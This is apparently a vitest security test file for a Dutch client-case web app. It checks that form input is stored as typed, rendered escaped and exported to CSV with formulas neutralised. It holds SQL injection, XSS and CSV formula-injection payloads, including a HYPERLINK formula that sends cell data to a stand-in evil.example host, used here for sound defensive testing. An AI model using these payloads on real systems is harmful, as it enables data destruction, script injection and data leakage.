// SQL metacharacters and markup typed into the main forms are stored exactly as typed and shown escaped,
// never as live markup; the tables are still there afterwards. The CSV export neutralises formulas.
import { beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type LoggedInAgent, type TestContext } from '../helpers/app.js';
import { insertClient, zRouteClient } from '../helpers/fixtures.js';

const SQL1 = "'; DROP TABLE clients; --";
const SQL2 = '" OR 1=1 --';
const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const PAYLOADS = [SQL1, SQL2, SCRIPT, IMG];
/** All four in one string (94 characters: fits a 100-character field). */
const ALL = PAYLOADS.join(' ');

/**
 * The payload must not appear as live markup; its escaped form must (unless `shown` is false: a page that
 * does not show the field at all). Quoted attribute values are dropped before looking for event handlers:
 * escaped text inside value="..." is harmless, a payload that broke out of the quotes is not.
 */
function expectEscaped(html: string, shown = true) {
  expect(html).not.toContain('<script>alert(1)</script>');
  expect(html).not.toMatch(/<img src=x/i);
  expect(html.replace(/="[^"]*"/g, '=""')).not.toMatch(/<[^>]*\sonerror=/i);
  if (!shown) return;
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
}

/** True when some column of the row (or some string inside a JSON column) is exactly `value`. */
function storedExactly(row: unknown, value: string): boolean {
  const walk = (v: unknown): boolean => {
    if (v === value) return true;
    if (typeof v === 'string' && /^[[{]/.test(v)) {
      try {
        return walk(JSON.parse(v));
      } catch {
        return false;
      }
    }
    if (Array.isArray(v)) return v.some(walk);
    if (v && typeof v === 'object') return Object.values(v).some(walk);
    return false;
  };
  return walk(row);
}

function tablesIntact(ctx: TestContext) {
  for (const t of ['clients', 'users', 'audit_log', 'hour_entries', 'agreements', 'conversations']) {
    expect(() => ctx.db.prepare(`SELECT COUNT(*) FROM ${t}`).get(), t).not.toThrow();
  }
  expect(ctx.db.prepare('SELECT COUNT(*) FROM users').pluck().get()).toBe(6);
}

describe('injection and markup in the main forms', () => {
  let ctx: TestContext;
  let consulent: LoggedInAgent;
  let admin: LoggedInAgent;
  beforeAll(async () => {
    ctx = await buildTestApp();
    consulent = await ctx.login('consulent');
    admin = await ctx.login('admin');
  });

  it.each(PAYLOADS)('client registration stores the name and address %j as typed and shows them escaped', async (p) => {
    const { agent, csrf } = consulent;
    const before = ctx.db.prepare('SELECT COUNT(*) FROM clients').pluck().get() as number;
    const res = await agent
      .post('/clients/new')
      .type('form')
      .send({
        _csrf: csrf,
        firstName: p,
        lastName: `Achter ${p}`,
        birthDate: '1991-03-14',
        bsn: '',
        clientNumber: `K-${PAYLOADS.indexOf(p)}`,
        doelgroep: 'ASIELSTATUSHOUDER',
        linkedOn: '2026-10-01',
        address: p,
        postcode: '',
        city: p,
        phone: '',
        email: '',
        preferredLanguage: p,
        consulentId: String(ctx.users.consulent),
      });
    expect(res.status).toBe(303);
    const row = ctx.db.prepare('SELECT * FROM clients ORDER BY id DESC LIMIT 1').get() as Record<string, unknown>;
    expect(row).toMatchObject({ first_name: p, last_name: `Achter ${p}`, address: p, city: p, preferred_language: p });
    expect(ctx.db.prepare('SELECT COUNT(*) FROM clients').pluck().get()).toBe(before + 1);
    tablesIntact(ctx);
  });

  it('the names are escaped on the dossier, the details, the client list and the caseload', async () => {
    const { agent } = consulent;
    const id = ctx.db.prepare('SELECT id FROM clients WHERE first_name = ?').pluck().get(SCRIPT) as number;
    const id2 = ctx.db.prepare('SELECT id FROM clients WHERE first_name = ?').pluck().get(IMG) as number;
    for (const url of ['/clients', '/caseload', '/']) {
      const res = await agent.get(url);
      expect(res.status, url).toBe(200);
      expectEscaped(res.text);
    }
    for (const url of [`/clients/${id}`, `/clients/${id}/details`, `/clients/${id}/edit`]) {
      const a = await agent.get(url);
      const b = await agent.get(url.replace(String(id), String(id2)));
      expectEscaped(a.text + b.text);
    }
    // The SQL-looking text is shown as text too (quotes escaped, not cut off).
    const sql = ctx.db.prepare('SELECT id FROM clients WHERE first_name = ?').pluck().get(SQL1) as number;
    const page = await agent.get(`/clients/${sql}/details`);
    expect(page.text).toContain('&#39;; DROP TABLE clients; --');
  });

  it('intake notes', async () => {
    const { agent, csrf } = consulent;
    const id = insertClient(ctx.db, { teamId: ctx.teamA, consulentId: ctx.users.consulent });
    const res = await agent
      .post(`/clients/${id}/intake`)
      .type('form')
      .send({ _csrf: csrf, educationHistory: ALL, workHistory: ALL, barrierNotes: ALL });
    expect([200, 303]).toContain(res.status);
    const row = ctx.db.prepare('SELECT * FROM intakes WHERE client_id = ?').get(id);
    expect(storedExactly(row, ALL)).toBe(true);
    expectEscaped((await agent.get(`/clients/${id}/intake`)).text);
    tablesIntact(ctx);
  });

  it('PIP goals', async () => {
    const { agent, csrf } = consulent;
    const route = zRouteClient(ctx.db, ctx.teamA, ctx.users.consulent); // has route Z and PIP v1
    const domain = ctx.db.prepare("SELECT id FROM leefdomeinen WHERE name = 'Huisvesting'").pluck().get() as number;
    const res = await agent
      .post(`/clients/${route}/pip`)
      .type('form')
      .send({
        _csrf: csrf,
        vastgesteldOn: '2026-11-02',
        revisionReason: 'OTHER',
        revisionNote: ALL,
        languageGoal: ALL,
        participationGoals: ALL,
        goal_domain_0: String(domain),
        goal_text_0: ALL,
        goal_date_0: '2027-06-01',
      });
    expect(res.status).toBe(303);
    const row = ctx.db.prepare('SELECT content FROM pip_versions WHERE client_id = ? ORDER BY version_no DESC LIMIT 1').pluck().get(route) as string;
    const content = JSON.parse(row);
    expect(content.languageGoal).toBe(ALL);
    expect(content.domainGoals[0].goal).toBe(ALL);
    for (const p of ['/pip', '/pip/print', '/pip/share', '/pip/versions/2']) {
      const page = await agent.get(`/clients/${route}${p}`);
      expect(page.status, p).toBe(200);
      expectEscaped(page.text);
    }
    tablesIntact(ctx);
  });

  it('hours: organisation and note', async () => {
    const { agent, csrf } = consulent;
    const id = zRouteClient(ctx.db, ctx.teamA, ctx.users.consulent);
    const res = await agent
      .post(`/clients/${id}/hours`)
      .type('form')
      .send({ _csrf: csrf, kind: 'LANGUAGE', periodStart: '2026-11-01', periodEnd: '2026-11-20', hours: '4', organisation: ALL, note: ALL });
    expect(res.status).toBe(303);
    const row = ctx.db.prepare('SELECT organisation, note FROM hour_entries WHERE client_id = ?').get(id);
    expect(row).toEqual({ organisation: ALL, note: ALL });
    const entry = ctx.db.prepare('SELECT id FROM hour_entries WHERE client_id = ?').pluck().get(id) as number;
    expectEscaped((await agent.get(`/clients/${id}/hours`)).text);
    expectEscaped((await agent.get(`/clients/${id}/hours/${entry}/edit`)).text);
    tablesIntact(ctx);
  });

  it('voortgangsgesprek notes', async () => {
    const { agent, csrf } = consulent;
    const id = zRouteClient(ctx.db, ctx.teamA, ctx.users.consulent);
    const res = await agent
      .post(`/clients/${id}/conversations/new`)
      .type('form')
      .send({ _csrf: csrf, heldOn: '2026-11-20', clientPresent: 'on', consulentPresent: 'on', coachName: ALL, goingWell: ALL, barriers: ALL, languageDevelopment: ALL });
    expect(res.status).toBe(303);
    const row = ctx.db.prepare('SELECT * FROM conversations WHERE client_id = ?').get(id) as { id: number };
    expect(storedExactly(row, ALL)).toBe(true);
    expectEscaped((await agent.get(`/clients/${id}/conversations/${row.id}`)).text);
    expectEscaped((await agent.get(`/clients/${id}/conversations`)).text, false);
    tablesIntact(ctx);
  });

  it('agreement description, also in the flash message and on the timeline', async () => {
    const { agent, csrf } = consulent;
    const id = zRouteClient(ctx.db, ctx.teamA, ctx.users.consulent);
    const res = await agent
      .post(`/clients/${id}/agreements`)
      .type('form')
      .send({ _csrf: csrf, agreement_0_description: ALL, agreement_0_owner: 'CLIENT', agreement_0_due: '2026-12-20' });
    expect(res.status).toBe(303);
    expect(ctx.db.prepare('SELECT description FROM agreements WHERE client_id = ?').pluck().get(id)).toBe(ALL);
    expectEscaped((await agent.get(`/clients/${id}/agreements`)).text); // with the flash
    expectEscaped((await agent.get(`/clients/${id}`)).text); // timeline
    tablesIntact(ctx);
  });

  it('admin list names (activity kind, provider), also where a consulent picks them', async () => {
    const { agent, csrf } = admin;
    const name = `${SCRIPT} ${IMG}`;
    expect((await agent.post('/admin/lists/activiteiten/new').type('form').send({ _csrf: csrf, name })).status).toBe(303);
    expect(
      (await agent.post('/admin/lists/aanbieders/new').type('form').send({ _csrf: csrf, name: `${SQL1} ${name}`, kind: 'TAALAANBIEDER', contact: ALL })).status,
    ).toBe(303);
    expect(ctx.db.prepare('SELECT COUNT(*) FROM activity_kinds WHERE name = ?').pluck().get(name)).toBe(1);
    expect(ctx.db.prepare('SELECT COUNT(*) FROM providers WHERE name = ? AND contact = ?').pluck().get(`${SQL1} ${name}`, ALL)).toBe(1);
    expectEscaped((await agent.get('/admin/lists')).text);
    const id = zRouteClient(ctx.db, ctx.teamA, ctx.users.consulent);
    expectEscaped((await consulent.agent.get(`/clients/${id}/hours`)).text);
    expectEscaped((await consulent.agent.get(`/clients/${id}/pip/new`)).text);
    tablesIntact(ctx);
  });

  it('SQL metacharacters in search and filter query strings find nothing and break nothing', async () => {
    const { agent } = consulent;
    for (const q of [SQL1, SQL2, "x' OR '1'='1"]) {
      for (const url of [`/clients?q=${encodeURIComponent(q)}`, `/caseload?q=${encodeURIComponent(q)}&route=${encodeURIComponent(q)}`]) {
        const res = await agent.get(url);
        expect([200, 400], url).toContain(res.status);
        expect(res.text).not.toMatch(/SqliteError|syntax error/i);
      }
    }
    tablesIntact(ctx);
  });
});

describe('CSV export against formula injection (end to end)', () => {
  it('a client registered as =HYPERLINK(...) comes out as text, not as a formula', async () => {
    const ctx = await buildTestApp();
    const { agent, csrf } = await ctx.login('consulent');
    const evil = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
    for (const [i, first] of [evil, '+31 6', '-2+3', '@SUM(A1)'].entries()) {
      const res = await agent
        .post('/clients/new')
        .type('form')
        .send({
          _csrf: csrf,
          firstName: first,
          lastName: `Formule${i}`,
          birthDate: '1991-03-14',
          clientNumber: `F-${i}`,
          doelgroep: 'ASIELSTATUSHOUDER',
          linkedOn: '2026-10-01',
          consulentId: String(ctx.users.consulent),
        });
      expect(res.status).toBe(303);
    }
    const csv = (await agent.get('/caseload/export.csv')).text.replace(/^\uFEFF/, '');
    const lines = csv.trim().split('\r\n');
    expect(lines).toHaveLength(5);
    expect(csv).toContain(`;"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")";`);
    expect(csv).toContain(";'+31 6;");
    expect(csv).toContain(";'-2+3;");
    expect(csv).toContain(";'@SUM(A1);");
    // No cell anywhere starts with a formula character.
    for (const line of lines.slice(1)) {
      const cells = line.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, '').replace(/^"/, ''));
      for (const c of cells) expect(c, line).not.toMatch(/^[=+\-@]/);
    }
  });
});
